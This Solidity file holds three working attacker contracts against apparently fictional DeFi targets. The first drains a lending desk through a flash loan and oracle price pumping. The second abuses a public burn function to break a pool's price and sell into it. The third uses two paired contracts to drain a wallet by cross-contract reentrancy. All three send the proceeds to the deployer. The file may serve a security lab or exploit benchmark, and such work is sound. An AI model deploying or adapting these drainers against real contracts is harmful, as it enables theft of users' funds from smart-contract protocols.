// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "../interfaces/IERC20.sol";
import {UnsSwapLib, IUnsPool} from "./UnsSwapLib.sol";

interface IUnsVaultAdv {
    function advance(address token, uint256 amount, address taker, bytes calldata data) external;
}

interface IUnsDesk {
    function price() external view returns (uint256);
    function post(uint256 amount) external;
    function take(uint256 amount) external;
}

interface IUnsBurnable {
    function burn(address from, uint256 amount) external;
}

interface IUnsWallet {
    function deposit() external payable;
    function move(address to, uint256 amount) external;
    function withdrawAll() external;
    function credit(address who) external view returns (uint256);
}

/// @title UnsOracleDrainer
/// @notice Borrows cash from the flash vault, buys the collateral on the
/// pool the desk prices from, posts a part, borrows all the desk's cash at
/// the pumped price, sells the rest back and repays.
contract UnsOracleDrainer {
    address private immutable boss;
    address private vault;
    address private pool;
    address private desk;
    address private cash;
    address private asset;

    constructor(address vault_, address pool_, address desk_, address cash_, address asset_) {
        boss = msg.sender;
        (vault, pool, desk, cash, asset) = (vault_, pool_, desk_, cash_, asset_);
    }

    function go(uint256 loan) external {
        require(msg.sender == boss, "boss");
        IUnsVaultAdv(vault).advance(cash, loan, address(this), "");
        IERC20(cash).transfer(boss, IERC20(cash).balanceOf(address(this)));
        IERC20(asset).transfer(boss, IERC20(asset).balanceOf(address(this)));
    }

    function onUnsAdvance(address, uint256 amount, bytes calldata) external {
        require(msg.sender == vault, "vault");
        uint256 got = UnsSwapLib.sell(pool, cash, amount);
        uint256 avail = IERC20(cash).balanceOf(desk);
        uint256 need = avail * 4 * 1e18 / (3 * IUnsDesk(desk).price()) + 1;
        IERC20(asset).approve(desk, need);
        IUnsDesk(desk).post(need);
        IUnsDesk(desk).take(avail);
        UnsSwapLib.sell(pool, asset, got - need);
        IERC20(cash).transfer(vault, amount);
    }
}

/// @title UnsBurnDrainer
/// @notice Buys a little of a token with a public burn(from, amount),
/// destroys the pool's balance of it, syncs the pool and sells into the
/// broken price.
contract UnsBurnDrainer {
    address private immutable boss;

    constructor() {
        boss = msg.sender;
    }

    function go(address pool, address burnable, address cash, uint256 spend) external {
        require(msg.sender == boss, "boss");
        uint256 got = UnsSwapLib.sell(pool, cash, spend);
        IUnsBurnable(burnable).burn(pool, IERC20(burnable).balanceOf(pool) - 1);
        IUnsPool(pool).sync();
        UnsSwapLib.sell(pool, burnable, got);
        IERC20(cash).transfer(boss, IERC20(cash).balanceOf(address(this)));
    }
}

/// @title UnsWalletReenterer
/// @notice Two instances pass one credit back and forth: each is paid by
/// withdrawAll() and, before the wallet zeroes its credit, moves that
/// credit to the other.
contract UnsWalletReenterer {
    address private immutable boss;
    IUnsWallet private immutable wallet;
    UnsWalletReenterer private other;
    bool private relay;

    constructor(address wallet_) {
        boss = msg.sender;
        wallet = IUnsWallet(wallet_);
    }

    function pair(address other_) external {
        require(msg.sender == boss, "boss");
        other = UnsWalletReenterer(payable(other_));
        relay = true;
    }

    function go() external payable {
        require(msg.sender == boss, "boss");
        wallet.deposit{value: msg.value}();
        uint256 stake = msg.value;
        while (address(wallet).balance >= 3 * stake) {
            wallet.withdrawAll();
            other.cycle();
        }
        relay = false;
        wallet.withdrawAll();
        relay = true;
        other.sweep();
        payable(boss).transfer(address(this).balance);
    }

    function cycle() external {
        require(msg.sender == address(other), "other");
        wallet.withdrawAll();
    }

    function sweep() external {
        require(msg.sender == address(other), "other");
        payable(address(other)).transfer(address(this).balance);
    }

    receive() external payable {
        if (msg.sender == address(wallet) && relay) {
            wallet.move(address(other), wallet.credit(address(this)));
        }
    }
}
